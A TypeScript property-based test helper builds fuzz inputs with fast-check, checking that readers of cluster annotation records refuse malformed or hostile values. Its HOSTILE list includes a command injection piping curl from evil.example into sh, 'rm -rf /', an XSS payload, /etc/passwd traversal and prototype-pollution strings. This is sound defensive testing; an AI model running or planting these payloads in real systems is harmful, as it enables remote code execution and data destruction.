import fc from 'fast-check';

// Input a hostile editor of annotations might write, for the property-based specs of the
// readers of cluster records: each reader must refuse what its schema does not name.

/** Strings a hostile editor would plant: shell and Dockerfile breakouts, markup, other projects. */
export const HOSTILE = [
  '6.19.1" && curl -s http://evil.example/x | sh && echo "',
  '$(curl evil.example)',
  '`id`',
  '; rm -rf /',
  '<img src=x onerror="alert(1)">',
  'javascript:alert(1)',
  'kube-system',
  'other-project',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  '\u0000\u001b[31m',
  'x'.repeat(70_000),
  '{"__proto__":{"polluted":true}}',
];

/** One of the hostile strings. */
export const hostile = fc.constantFrom(...HOSTILE);
/** Plausible but wrong: names of other projects and objects, numbers out of range. */
const plausible = fc.constantFrom<unknown>(
  'kube-system',
  'victim',
  'demo',
  'c-data',
  'other-data',
  'pv-of-victim',
  0,
  11,
  -1,
  1.5,
  1e9,
  true,
  '',
);
const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostile, weight: 3 },
  { arbitrary: plausible, weight: 5 },
  { arbitrary: fc.jsonValue(), weight: 2 },
  { arbitrary: fc.constant(null), weight: 1 },
  { arbitrary: fc.constant(Array.from({ length: 5000 }, (_, i) => i)), weight: 1 },
  { arbitrary: fc.constant({ __proto__: { polluted: true } }), weight: 1 },
);

/** A JSON value, as a record's text parses to. */
export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Every path to a leaf (or a container) of a JSON value. */
const pathsOf = (value: unknown, prefix: string[] = []): string[][] => {
  const here = [prefix];
  if (Array.isArray(value))
    return here.concat(...value.map((item, index) => pathsOf(item, [...prefix, String(index)])));
  if (typeof value === 'object' && value !== null)
    return here.concat(
      ...Object.entries(value).map(([key, item]) => pathsOf(item, [...prefix, key])),
    );
  return here;
};

/** A valid record with one place replaced, one field added (maybe `__proto__`), or nothing. */
export const nearly = (valid: Json): fc.Arbitrary<string> => {
  const paths = pathsOf(valid).filter((path) => path.length > 0);
  return fc
    .tuple(
      fc.nat({ max: paths.length - 1 }),
      anyValue,
      fc.constantFrom('replace', 'replace', 'replace', 'add', 'proto', 'keep'),
    )
    .map(([index, replacement, mode]) => {
      if (mode === 'keep') return JSON.stringify(valid);
      const copy = JSON.parse(JSON.stringify(valid)) as Record<string, unknown>;
      const path = paths[index] ?? [];
      let holder: Record<string, unknown> = copy;
      for (const key of path.slice(0, -1)) holder = holder[key] as Record<string, unknown>;
      const last = path[path.length - 1] ?? '';
      if (mode === 'replace') holder[last] = replacement;
      else if (mode === 'add' && typeof holder === 'object')
        holder[`extra${String(index)}`] = replacement;
      const text = JSON.stringify(copy);
      // JSON.stringify drops a `__proto__` key set by assignment, so it is written as text.
      return mode === 'proto'
        ? text.replace(/^\{/, `{"__proto__":${JSON.stringify(replacement)},`)
        : text;
    });
};

/** Text for an annotation: mostly a valid record nearly right, sometimes any JSON, text or a huge array. */
export const annotationText = (valid: Json): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: nearly(valid), weight: 8 },
    { arbitrary: fc.json(), weight: 1 },
    { arbitrary: fc.string(), weight: 1 },
    { arbitrary: hostile, weight: 1 },
    {
      arbitrary: fc.constant(JSON.stringify(Array.from({ length: 100_000 }, () => valid))),
      weight: 1,
    },
  );

/** Every string inside a value, however deep. */
export const strings = (value: unknown): string[] => {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(strings);
  return [];
};
